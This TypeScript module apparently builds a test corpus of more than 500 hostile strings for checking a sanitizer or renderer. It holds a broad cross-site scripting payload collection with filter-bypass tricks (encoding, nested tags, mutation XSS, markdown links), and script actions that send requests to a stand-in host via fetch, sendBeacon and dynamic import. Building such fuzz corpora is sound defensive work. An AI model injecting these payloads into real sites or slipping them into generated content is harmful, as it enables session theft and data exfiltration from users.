/** Where a request would go if one of them worked. Nothing answers there. */
export const CANARY = 'canary.example';

/** What a script would do if it ran: leave a mark, open a dialog, call home. */
const DEEDS = [
  'window.fired=1',
  'alert(1)',
  `fetch('//${CANARY}/f')`,
  `new Image().src='http://${CANARY}/i'`,
  `location='http://${CANARY}/l'`,
  "document.title='fired'",
  `import('http://${CANARY}/m.js')`,
  "top['al'+'ert'](1)",
  `navigator.sendBeacon('http://${CANARY}/b')`,
  'print()',
];

/** Markup that runs a script in one browser or another, `$` standing for the script. */
const MARKUP = [
  '<script>$</script>',
  '<ScRiPt>$</sCrIpT>',
  '<scr<script>ipt>$</scr</script>ipt>',
  '<script\u0000>$</script>',
  '<script src="data:text/javascript,$"></script>',
  '<img src=x onerror="$">',
  '<img src=x onerror=$//',
  "<img src='x'onerror='$'>",
  '<svg onload="$">',
  '<svg/onload=$>',
  '<svg><script>$</script></svg>',
  '<svg><animate onbegin="$" attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:$"><text y=20>press</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="$"></style></mglyph></table></mtext></math>',
  '<iframe srcdoc="<script>$</script>"></iframe>',
  '<iframe src="javascript:$"></iframe>',
  '<object data="javascript:$"></object>',
  '<embed src="javascript:$">',
  '<video><source onerror="$"></video>',
  '<audio src=x onerror="$">',
  '<details open ontoggle="$">more</details>',
  '<body onload="$">',
  '<input autofocus onfocus="$">',
  '<select autofocus onfocus="$"></select>',
  '<marquee onstart="$">moving</marquee>',
  '<a href="javascript:$">press</a>',
  '<a href="java\tscript:$">press</a>',
  '<a href="&#106;avascript:$">press</a>',
  '<a href="data:text/html,<script>$</script>">press</a>',
  '<form action="javascript:$"><button>press</button></form>',
  '<button formaction="javascript:$">press</button>',
  '<noscript><p title="</noscript><img src=x onerror=$>">',
  '<template><script>$</script></template>',
  '</textarea><script>$</script>',
  '--><script>$</script>',
  ']]><script>$</script>',
  '"><script>$</script>',
  '\' onmouseover="$" x=\'',
  '&lt;script&gt;$&lt;/script&gt;',
  '\uff1cscript\uff1e$\uff1c/script\uff1e',
  '%3Cscript%3E$%3C/script%3E',
  '+ADw-script+AD4-$+ADw-/script+AD4-',
  '{{constructor.constructor(`$`)()}}',
  '${$}',
  '[press](javascript:$)',
  '[press](JaVaScRiPt:$ "title")',
  '<javascript:$>',
  '**<img src=x onerror="$">**',
  '- <img src=x onerror="$">',
  '\u202e<script>$</script>\u202c',
];

/** What asks for something elsewhere without a script, or leads astray by itself. */
const QUIET = [
  `<img src="http://${CANARY}/pixel.png">`,
  `<link rel=stylesheet href="http://${CANARY}/s.css">`,
  `<style>@import 'http://${CANARY}/s.css'; body{background:url(http://${CANARY}/b)}</style>`,
  `<base href="http://${CANARY}/">`,
  `<meta http-equiv=refresh content="0;url=http://${CANARY}/">`,
  `<link rel=prefetch href="http://${CANARY}/p">`,
  `<video poster="http://${CANARY}/v">`,
  `![picture](http://${CANARY}/m.png)`,
  `http://${CANARY}/?q=<b>`,
  `<a href="http://${CANARY}" ping="http://${CANARY}/ping">press</a>`,
  '__proto__',
  'constructor',
  'toString',
  '\ud800 half a pair',
  'a\u0300'.repeat(200),
  'x'.repeat(3_000),
];

/** More than 500 texts that a hostile visitor might leave, each different. */
export function hostileTexts(): readonly string[] {
  const scripted = MARKUP.flatMap((markup) => DEEDS.map((deed) => markup.replace('$', () => deed)));
  return [...new Set([...scripted, ...QUIET])];
}
